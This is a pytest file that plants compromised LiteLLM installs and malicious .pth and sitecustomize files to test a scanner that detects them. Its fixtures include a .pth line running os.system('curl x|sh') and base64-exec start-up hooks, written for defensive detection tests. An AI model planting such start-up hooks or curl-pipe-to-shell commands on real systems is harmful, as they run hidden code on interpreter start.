"""`ccprov audit`'s on-host scan against a planted corpus: every place a compromised LiteLLM
or start-up code hides, clean look-alikes next to them, and exactly the expected findings."""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from ccprov.fleet import guard
from tests.support.pins import LITELLM

g = guard.load()

# setuptools' distutils-precedence.pth, byte for byte (setuptools >= 60 and 49-59 wheels).
DISTUTILS_LOCAL = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') =="
    " 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
DISTUTILS_STDLIB = DISTUTILS_LOCAL.replace("'local') ==", "'stdlib') ==")

# setuptools/namespaces.py's _nspkg_tmpl, rendered as setuptools does.
NSPKG_TMPL = (
    "import sys, types, os",
    "has_mfs = sys.version_info > (3, 5)",
    "p = os.path.join(%(root)s, *%(pth)r)",
    "importlib = has_mfs and __import__('importlib.util')",
    "has_mfs and __import__('importlib.machinery')",
    "m = has_mfs and sys.modules.setdefault(%(pkg)r, importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec(%(pkg)r, [os.path.dirname(p)])))",
    "m = m or sys.modules.setdefault(%(pkg)r, types.ModuleType(%(pkg)r))",
    "mp = (m or []) and m.__dict__.setdefault('__path__',[])",
    "(p not in mp) and mp.append(p)",
)


def nspkg_line(pkg: str) -> str:
    parent, _sep, child = pkg.rpartition(".")
    lines = NSPKG_TMPL + (
        ("m and setattr(sys.modules[%(parent)r], %(child)r, m)",) if parent else ()
    )
    values = {
        "root": "sys._getframe(1).f_locals['sitedir']",
        "pth": tuple(pkg.split(".")),
        "pkg": pkg,
        "parent": parent,
        "child": child,
    }
    return ";".join(lines) % values + "\n"


def venv(base: Path, python: str = "python3.12", site: str = "site-packages") -> Path:
    """A venv's skeleton: pyvenv.cfg, lib64 -> lib (as venv makes it), the site dir."""
    base.mkdir(parents=True, exist_ok=True)
    (base / "pyvenv.cfg").write_text("home = /usr/bin\ninclude-system-site-packages = false\n")
    sitedir = base / "lib" / python / site
    sitedir.mkdir(parents=True)
    (base / "lib64").symlink_to("lib")
    return sitedir


def dist_info(site: Path, version: str, dirname: str | None = None) -> Path:
    info = site / (dirname or f"litellm-{version}.dist-info")
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: litellm\nVersion: {version}\n")
    return info


def build_corpus(fs: Path) -> list[tuple[str, str]]:
    """Plant the corpus below `fs` (a stand-in for /); the findings expected, exactly."""
    home = fs / "home/dev"
    expected: list[tuple[str, str]] = []

    def expect(kind: str, path: Path) -> None:
        expected.append((kind, str(path.relative_to(fs))))

    # 1. pipx venv, with 1.82.8's payload.
    site = venv(home / ".local/share/pipx/venvs/litellm")
    expect("compromised-litellm", dist_info(site, "1.82.8"))
    (site / "litellm_init.pth").write_text("import base64; exec(base64.b64decode('cHJpbnQ='))\n")
    expect("known-bad-pth", site / "litellm_init.pth")
    # 2. `uv tool install litellm`.
    site = venv(home / ".local/share/uv/tools/litellm")
    expect("compromised-litellm", dist_info(site, "1.82.7"))
    # 3. ccprov's own vibe proxy venv, ten levels below /home.
    site = venv(home / ".local/share/ccprov/litellm/1.82.8", "python3.11")
    expect("compromised-litellm", dist_info(site, "1.82.8"))
    # 4. uvx: the cached environment (name spelt as its project, LiteLLM) and uv's unpacked
    #    wheel in archive-v0, which is not a site dir but is hard-linked into the next env.
    site = venv(home / ".cache/uv/environments-v2/litellm-5c1f9d2e0b7a4e63")
    expect("compromised-litellm", dist_info(site, "1.82.8", "LiteLLM-1.82.8.dist-info"))
    archive = home / ".cache/uv/archive-v0/Xq3v9ZtY1kR0"
    expect("compromised-litellm", dist_info(archive, "1.82.8"))
    (archive / "litellm_init.pth").write_text("import os\n")
    expect("known-bad-pth", archive / "litellm_init.pth")
    # 5. /usr/lib64 (RHEL's platlib), and Debian's dist-packages with an egg-info directory.
    site = fs / "usr/lib64/python3.12/site-packages"
    site.mkdir(parents=True)
    expect("compromised-litellm", dist_info(site, "1.82.7"))
    site = fs / "usr/local/lib/python3.12/dist-packages"
    site.mkdir(parents=True)
    egg = site / "litellm-1.82.7-py3.12.egg-info"
    egg.mkdir()
    (egg / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: litellm\nVersion: 1.82.7\n")
    expect("compromised-litellm", egg)
    # 6. egg-info as a single file (distutils-style install), version only in the name.
    site = fs / "var/lib/legacy/python3.11/site-packages"
    site.mkdir(parents=True)
    (site / "litellm-1.82.8-py3.11.egg-info").write_text("Name: litellm\n")
    expect("compromised-litellm", site / "litellm-1.82.8-py3.11.egg-info")
    # 7. `pip install --target` (a PYTHONPATH dir, no site-packages in the path).
    expect("compromised-litellm", dist_info(fs / "srv/lambda/python", "1.82.8"))
    # 8. A venv built in /tmp.
    site = venv(fs / "tmp/build-4711/.venv")
    expect("compromised-litellm", dist_info(site, "1.82.8"))
    # 9. A BOM before `import`: Python 3.13+ decodes .pth as utf-8-sig and runs it.
    site = venv(fs / "opt/app/venv", "python3.13")
    dist_info(site, LITELLM)
    (site / "zz_hook.pth").write_bytes(b"\xef\xbb\xbfimport os; os.system('curl x|sh')\n")
    expect("pth-code", site / "zz_hook.pth")
    # 10. A form feed before `import`: 3.13's str.splitlines() starts a line there.
    (site / "paths_ff.pth").write_text("/opt/app/extra\x0cimport os\n")
    expect("pth-code", site / "paths_ff.pth")
    # 11. Allowed names with foreign content.
    site = venv(fs / "srv/svc/venv")
    (site / "distutils-precedence.pth").write_text(
        DISTUTILS_LOCAL + "import base64; exec(base64.b64decode('cHJpbnQ='))\n"
    )
    expect("pth-code", site / "distutils-precedence.pth")
    (site / "_virtualenv.pth").write_text("import _virtualenv, os; os.system('id')\n")
    expect("pth-code", site / "_virtualenv.pth")
    # 12. sitecustomize in a venv; usercustomize in root's user site.
    (site / "sitecustomize.py").write_text("import os\n")
    expect("customize", site / "sitecustomize.py")
    user_site = fs / "root/.local/lib/python3.11/site-packages"
    user_site.mkdir(parents=True)
    (user_site / "usercustomize.py").write_text("print('hi')\n")
    expect("customize", user_site / "usercustomize.py")

    # Clean look-alikes.
    gateway = venv(fs / f"opt/litellm/{LITELLM}", "python3.11")
    dist_info(gateway, LITELLM)
    dist_info(gateway, "1.82.80")  # a prefix of no denylisted version
    (gateway / "distutils-precedence.pth").write_text(DISTUTILS_LOCAL)
    (gateway / "_virtualenv.pth").write_text("import _virtualenv\n")
    # " import" (leading space) is a path to site.py, never executed; comments and paths.
    (gateway / "paths.pth").write_text("# extra paths\n/opt/extra\n ../shared\n import os\n")
    (gateway / "__editable__.mypkg-1.0.pth").write_text(
        "import __editable___mypkg_1_0_finder; __editable___mypkg_1_0_finder.install()\n"
    )
    (gateway / "zope.interface-6.0-py3.11-nspkg.pth").write_text(
        nspkg_line("zope") + nspkg_line("zope.interface")
    )
    (gateway / "easy-install.pth").write_text(
        "import sys; sys.__plen = len(sys.path)\n./six-1.16.0-py3.11.egg\n"
        "import sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:];"
        " p = getattr(sys, '__egginsert', 0); sys.path[p:p] = new;"
        " sys.__egginsert = p + len(new)\n"
    )
    (gateway / "sitecustomize_helpers.py").write_text("")  # not sitecustomize
    old = venv(fs / "srv/old-setuptools/venv", "python3.9")
    (old / "distutils-precedence.pth").write_text(DISTUTILS_STDLIB)
    # Other distributions whose names start with litellm.
    dist_info(gateway, "1.82.8", "litellm_proxy_extras-1.82.8.dist-info")
    dist_info(gateway, "1.82.8", "litellmx-1.82.8.dist-info")
    dist_info(gateway, "1.82.7", "litellm_enterprise-1.82.7.dist-info")
    # sitecustomize outside a site dir is not imported at start.
    (fs / "opt/app/src").mkdir(parents=True)
    (fs / "opt/app/src/sitecustomize.py").write_text("import os\n")
    # Symbolic links: a loop, and one to a compromised venv outside the roots (not followed;
    # the venv itself is reported once, where it is).
    (home / "loop").mkdir()
    (home / "loop/self").symlink_to("..")
    (home / "loop/up").symlink_to(home)
    (home / "venv-link").symlink_to(fs / "tmp/build-4711/.venv")
    # __pycache__ is pruned: byte code only, never an environment.
    dist_info(fs / "opt/app/src/__pycache__/site-packages", "1.82.8")
    return expected


ROOTS = ["usr", "usr/local", "opt", "srv", "var/lib", "home", "root", "tmp", "var/tmp"]


def scan(fs: Path, **extra: object) -> dict:
    return g.audit({"roots": [str(fs / r) for r in ROOTS], **extra})


def pairs(report: dict, fs: Path) -> list[tuple[str, str]]:
    return sorted((f["kind"], str(Path(f["path"]).relative_to(fs))) for f in report["findings"])


def test_the_corpus_gives_exactly_the_expected_findings(tmp_path: Path) -> None:
    expected = build_corpus(tmp_path)
    assert len(expected) >= 12
    report = scan(tmp_path)
    assert pairs(report, tmp_path) == sorted(expected)
    assert report["unreadable"] == [] and report["unreadable_count"] == 0
    severities = {f["kind"]: f["severity"] for f in report["findings"]}
    assert severities == {
        "compromised-litellm": "critical",
        "known-bad-pth": "critical",
        "pth-code": "warning",
        "customize": "warning",
    }
    # Every litellm install is listed (clean ones too), each once; look-alikes are not.
    versions = sorted(i["version"] for i in report["litellm"])
    assert versions == sorted(["1.82.8"] * 7 + ["1.82.7"] * 3 + [LITELLM, LITELLM, "1.82.80"]), (
        report["litellm"]
    )
    assert report["environments"] == 9
    whats = {Path(f["path"]).name: f["what"] for f in report["findings"]}
    assert "not its known content" in whats["distutils-precedence.pth"]
    assert "exec(base64" in whats["distutils-precedence.pth"]
    assert whats["zz_hook.pth"].endswith("import os; os.system('curl x|sh')")
    assert whats["LiteLLM-1.82.8.dist-info"] == "litellm 1.82.8 is a compromised release"


def test_allow_pth_trusts_a_name_whatever_it_holds(tmp_path: Path) -> None:
    build_corpus(tmp_path)
    report = scan(tmp_path, allowed_pth=[r"^zz_hook\.pth$", r"^distutils-precedence\.pth$"])
    names = {Path(f["path"]).name for f in report["findings"]}
    assert "zz_hook.pth" not in names and "distutils-precedence.pth" not in names
    assert "litellm_init.pth" in names  # the payload's name is never allowed


def test_the_denylist_is_normalised_and_extensible(tmp_path: Path) -> None:
    site = venv(tmp_path / "opt/v")
    dist_info(site, "1.90.0")
    dist_info(site, "1.82.8.0", "litellm-1.82.8.0.dist-info")
    report = g.audit({"roots": [str(tmp_path)], "denylist": ["1.82.7", "1.82.8", "v1.90"]})
    assert sorted(Path(f["path"]).name for f in report["findings"]) == [
        "litellm-1.82.8.0.dist-info",
        "litellm-1.90.0.dist-info",
    ]


def test_pth_code_lines_follow_site_py() -> None:
    assert g.pth_code_lines(b"\xef\xbb\xbfimport os\n") == ["import os"]
    assert g.pth_code_lines(b"import\tos\r\n#import x\n import y\nimportlib\n") == ["import\tos"]
    assert g.pth_code_lines(b"/p\rimport a\n") == ["import a"]  # universal newline
    # Not UTF-8: the locale fallback (latin-1 here) splits at \x85 (NEL).
    assert g.pth_code_lines(b"\xff/p\x85import b\n") == ["import b"]


def test_an_unreadable_directory_is_reported(tmp_path: Path, monkeypatch) -> None:
    expected = build_corpus(tmp_path)
    hidden = tmp_path / "home/dev/.local/share/uv"
    real_scandir = os.scandir

    def scandir(path):
        if os.fspath(path) == str(hidden):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(g.os, "scandir", scandir)
    report = scan(tmp_path)
    assert report["unreadable"] == [{"path": str(hidden), "error": "Permission denied"}]
    assert report["unreadable_count"] == 1
    # Everything else is still found; only the uv tool install behind it is not.
    missing = [e for e in expected if e[1].startswith("home/dev/.local/share/uv/")]
    assert missing and pairs(report, tmp_path) == sorted(set(expected) - set(missing))


def test_an_unreadable_pth_file_is_reported(tmp_path: Path, monkeypatch) -> None:
    site = venv(tmp_path / "opt/v")
    (site / "hook.pth").write_text("import os\n")
    real_read = g.read_regular

    def fake_read(path, limit):  # the audit reads .pth files through read_regular only
        if os.fspath(path).endswith("hook.pth"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_read(path, limit)

    monkeypatch.setattr(g, "read_regular", fake_read)
    report = g.audit({"roots": [str(tmp_path)]})
    assert report["findings"] == []
    assert report["unreadable"] == [{"path": str(site / "hook.pth"), "error": "Permission denied"}]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run the probe as nobody")
def test_as_an_unprivileged_user_a_0700_home_is_reported_not_clean() -> None:
    """The probe as `nobody` (the system python3, source on stdin) over a tree whose home
    is 0700: the home is listed as unreadable, and the rest still scanned."""
    python = shutil.which("python3", path="/usr/bin:/bin")
    if python is None:
        pytest.skip("no system python3")
    top = Path(tempfile.mkdtemp(prefix="ccprov-audit-", dir="/tmp"))
    try:
        top.chmod(0o755)
        site = venv(top / "opt/v", "python3.11")
        dist_info(site, "1.82.8")
        home = top / "home/alice"
        dist_info(venv(home / ".venv"), "1.82.7")
        for path in [top, *top.rglob("*")]:
            if not path.is_symlink():
                path.chmod(0o755 if path.is_dir() else 0o644)
        home.chmod(0o700)
        proc = subprocess.run(
            [python, "-", json.dumps({"roots": [str(top / "opt"), str(top / "home")]})],
            input=guard.source(),
            capture_output=True,
            text=True,
            user="nobody",
            check=True,
            cwd="/",
        )
        report = json.loads(proc.stdout)
        assert report["euid"] != 0
        assert report["unreadable"] == [{"path": str(home), "error": "Permission denied"}]
        assert [Path(f["path"]).name for f in report["findings"]] == ["litellm-1.82.8.dist-info"]
    finally:
        shutil.rmtree(top)


def test_the_probe_runs_on_python_3_7() -> None:
    """Hosts may have an old python3: the probe is standard library, Python >= 3.7."""
    old = sorted(Path("/root/.pyenv/versions").glob("3.7*/bin/python3.7"))
    if not old:
        pytest.skip("no Python 3.7 here")
    proc = subprocess.run(
        [str(old[0]), "-", json.dumps({"roots": [sys.prefix]})],
        input=guard.source(),
        capture_output=True,
        text=True,
        check=True,
    )
    assert json.loads(proc.stdout)["site_dirs"] >= 1
